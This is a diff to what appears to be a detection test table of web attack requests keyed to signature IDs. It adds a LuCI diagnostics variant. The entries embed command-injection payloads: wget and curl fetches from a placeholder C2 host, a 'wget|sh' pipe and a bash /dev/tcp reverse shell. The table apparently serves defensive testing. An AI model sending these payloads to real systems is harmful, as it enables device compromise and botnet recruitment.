@@ -137,7 +137,9 @@ WEB_ATTACKS: list[tuple[tuple[int, ...], tuple[int, ...], bytes, bytes]] = [
     ((9001040,), (), _req("GET", f"/cgi-bin/ping.cgi?host=127.0.0.1;wget+http://{C2}/bot.mips+-O+/tmp/b"), OK),
     ((9001041,), (), _req("POST", "/api/diag", body=f"ip=192.0.2.1%3Bcurl%20-s%20http%3A%2F%2F{C2}%2Fx".encode(),
                           headers=(("Content-Type", "application/x-www-form-urlencoded"),)), OK),
-    ((9001042,), (), _req("GET", f"/shell?cmd=wget%20-qO-%20http://{C2}/i%7Csh"), OK),
+    ((9001042,), (), _req("POST", "/cgi-bin/luci/diag", body=f"cmd=wget -qO- http://{C2}/i|sh".encode(),
+                          headers=(("Content-Type", "application/x-www-form-urlencoded"),)), OK),
+    ((9001044,), (), _req("GET", f"/shell?cmd=wget%20-qO-%20http://{C2}/i%7Csh"), OK),
     ((9001043,), (), _req("POST", "/cgi-bin/admin.cgi", body=f"cmd=bash+-i+>%26+/dev/tcp/{C2}/4444+0>%261".encode(),
                           headers=(("Content-Type", "application/x-www-form-urlencoded"),)), OK),
     ((9001050,), (), _req("POST", "/upload.php", body=b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n"
